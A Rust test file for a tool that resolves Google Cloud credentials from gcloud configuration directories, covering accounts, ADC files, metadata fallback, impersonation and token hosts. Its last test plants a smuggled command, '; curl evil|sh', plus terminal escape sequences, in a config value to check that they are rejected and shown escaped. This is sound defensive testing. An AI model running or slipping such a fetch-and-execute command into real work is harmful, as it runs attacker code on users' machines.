use std::fs;

use super::*;
use crate::credentials::{Choice, Endpoints, ImpersonationFlags, Source, resolve};

const USER: &str = r#"{"type":"authorized_user","client_id":"c.apps.googleusercontent.com","client_secret":"s","refresh_token":"1//r","account":"","universe_domain":"googleapis.com"}"#;

/// A gcloud configuration directory holding `files` (relative path, contents).
fn gcloud_dir(files: &[(&str, &str)]) -> (tempfile::TempDir, Env) {
    let dir = tempfile::tempdir().expect("tempdir");
    for (path, text) in files {
        let path = dir.path().join(path);
        fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        fs::write(path, text).expect("write");
    }
    let env = Env { cloudsdk_config: Some(dir.path().to_owned()), ..Env::default() };
    (dir, env)
}

fn gcloud(env: &Env) -> Result<Loaded> {
    resolve(&Choice::Gcloud, &ImpersonationFlags::default(), &Endpoints::default(), env)
}

#[test]
fn the_active_configurations_account_gives_its_legacy_adc_file() {
    let (dir, mut env) = gcloud_dir(&[
        ("active_config", "work\n"),
        ("configurations/config_work", "[core]\naccount = me@example.com\nproject = p\n"),
        ("configurations/config_default", "[core]\naccount = other@example.com\n"),
        ("legacy_credentials/me@example.com/adc.json", USER),
    ]);
    let Source::AuthorizedUser(user) = gcloud(&env).expect("loaded").source else { panic!("a person") };
    assert_eq!(
        user.origin.path(),
        Some(dir.path().join("legacy_credentials/me@example.com/adc.json").as_path())
    );
    // gcloud's variables win over the files, as in gcloud.
    env.gcloud.active_config_name = Some("default".into());
    let err = gcloud(&env).expect_err("other@ has no adc.json").to_string();
    assert!(
        err.contains("legacy_credentials/other@example.com/adc.json") && err.contains("gcloud auth login"),
        "{err}"
    );
    env.gcloud.properties = vec![("CLOUDSDK_CORE_ACCOUNT".into(), "me@example.com".into())];
    assert!(gcloud(&env).is_ok());
}

#[test]
fn no_active_account_says_how_to_log_in_or_use_adc_naming_the_file() {
    let (dir, env) = gcloud_dir(&[("configurations/config_default", "[core]\nproject = p\n")]);
    let err = gcloud(&env).expect_err("no account");
    assert_eq!(err.exit_code(), crate::error::EXIT_USAGE);
    let text = err.to_string();
    for needle in [
        dir.path().join("configurations/config_default").display().to_string(),
        "[core] account".into(),
        "gcloud auth login".into(),
        "--use_application_default_credentials".into(),
    ] {
        assert!(text.contains(&needle), "{needle}: {text}");
    }
    // An empty directory (gcloud never ran) is the same: the configuration "default", no account.
    let (_empty, env) = gcloud_dir(&[]);
    assert!(gcloud(&env).expect_err("no account").to_string().contains("no active account"));
}

#[test]
fn without_an_account_on_gce_gcloud_uses_the_metadata_server_unless_told_not_to() {
    let (_dir, mut env) = gcloud_dir(&[("gce", "True")]);
    assert!(matches!(gcloud(&env).expect("metadata").source, Source::Metadata(_)));
    env.gcloud.properties = vec![("CLOUDSDK_CORE_CHECK_GCE_METADATA".into(), "false".into())];
    assert!(gcloud(&env).is_err());
    let (_dir, mut env) = gcloud_dir(&[("gce", "False")]);
    assert!(gcloud(&env).is_err());
    env.gce_metadata_host = Some("127.0.0.1:8989".into());
    assert!(matches!(gcloud(&env).expect("metadata").source, Source::Metadata(_)));
}

#[test]
fn a_configuration_that_is_not_ini_is_named_with_its_line() {
    let (dir, env) = gcloud_dir(&[("configurations/config_default", "[core]\naccount me@example.com\n")]);
    let text = gcloud(&env).expect_err("not INI").to_string();
    assert!(text.contains(&dir.path().join("configurations/config_default").display().to_string()), "{text}");
    assert!(text.contains("line 2"), "{text}");
    let (_dir, env) = gcloud_dir(&[("active_config", "../x")]);
    assert!(gcloud(&env).expect_err("bad name").to_string().contains("active_config"));
}

#[test]
fn gclouds_impersonation_property_is_applied_unless_a_flag_names_another() {
    let chain = "d@my-project.iam.gserviceaccount.com, t@my-project.iam.gserviceaccount.com";
    let config = format!("[core]\naccount = me@example.com\n[auth]\nimpersonate_service_account = {chain}\n");
    let (_dir, env) = gcloud_dir(&[
        ("configurations/config_default", &config),
        ("legacy_credentials/me@example.com/adc.json", USER),
    ]);
    let Source::Impersonated(imp) = gcloud(&env).expect("loaded").source else { panic!("impersonated") };
    assert_eq!(imp.target.email, "t@my-project.iam.gserviceaccount.com");
    assert_eq!(imp.target.delegates, ["projects/-/serviceAccounts/d@my-project.iam.gserviceaccount.com"]);
    let flag = ImpersonationFlags {
        email: Some(
            crate::validate::ServiceAccountEmail::parse("f@my-project.iam.gserviceaccount.com")
                .expect("email"),
        ),
        ..Default::default()
    };
    let loaded = resolve(&Choice::Gcloud, &flag, &Endpoints::default(), &env).expect("loaded");
    let Source::Impersonated(imp) = loaded.source else { panic!("impersonated") };
    assert_eq!(
        (imp.target.email.as_str(), imp.target.delegates.len()),
        ("f@my-project.iam.gserviceaccount.com", 0)
    );
}

#[test]
fn a_fixed_access_token_from_gcloud_is_refused_naming_the_variable() {
    let (_dir, mut env) = gcloud_dir(&[]);
    env.gcloud.access_token_set = true;
    assert!(gcloud(&env).expect_err("refused").to_string().starts_with("CLOUDSDK_AUTH_ACCESS_TOKEN: "));
}

#[test]
fn gclouds_token_host_replaces_the_files_token_uri_and_keys_the_cache() {
    let (_dir, mut env) = gcloud_dir(&[
        ("configurations/config_default", "[core]\naccount = me@example.com\n"),
        ("legacy_credentials/me@example.com/adc.json", USER),
    ]);
    let google = gcloud(&env).expect("loaded");
    let Source::AuthorizedUser(user) = &google.source else { panic!("a person") };
    assert_eq!(user.token_uri, "https://oauth2.googleapis.com/token");
    env.gcloud.properties = vec![("CLOUDSDK_AUTH_TOKEN_HOST".into(), "http://127.0.0.1:1/token".into())];
    let local = gcloud(&env).expect("loaded");
    let Source::AuthorizedUser(user) = &local.source else { panic!("a person") };
    assert_eq!(user.token_uri, "http://127.0.0.1:1/token");
    assert_ne!(google.fingerprint, local.fingerprint);
    env.gcloud.properties = vec![("CLOUDSDK_AUTH_TOKEN_HOST".into(), "not a url".into())];
    assert!(gcloud(&env).expect_err("bad").to_string().starts_with("CLOUDSDK_AUTH_TOKEN_HOST: "));
}

#[test]
fn what_gclouds_files_say_is_echoed_on_one_line_and_bounded() {
    let long = format!("\u{1b}[2J{}", "x".repeat(100_000));
    let (_dir, env) = gcloud_dir(&[("active_config", &long)]);
    let err = gcloud(&env).expect_err("not a name").to_string();
    assert!(
        err.contains("\"\\u{1b}[2Jxxx") && err.contains("x...\" is not a gcloud configuration name"),
        "{err}"
    );
    assert!(!err.contains('\u{1b}') && err.len() < 600, "{err}");

    let evil = "[core]\naccount = me@example.com\n  \u{1b}[31m; curl evil|sh\n";
    let (_dir, env) = gcloud_dir(&[("configurations/config_default", evil)]);
    let err = gcloud(&env).expect_err("not an account").to_string();
    assert!(err.contains("\"me@example.com\\n\\u{1b}[31m; curl evil|sh\" is not an account"), "{err}");
    let (_dir, env) =
        gcloud_dir(&[("configurations/config_default", &format!("[core]\naccount = {}\n", "a".repeat(300)))]);
    let err = gcloud(&env).expect_err("too long").to_string();
    assert!(err.contains("aaa...\" is not an account") && err.len() < 400, "{err}");

    let chain = "[core]\naccount = me@example.com\n[auth]\nimpersonate_service_account = \u{1b}[2J@x\n";
    let (_dir, env) = gcloud_dir(&[
        ("configurations/config_default", chain),
        ("legacy_credentials/me@example.com/adc.json", USER),
    ]);
    let err = gcloud(&env).expect_err("not an email").to_string();
    assert!(err.contains("\"\\u{1b}[2J@x\" is not a service account email"), "{err}");
}
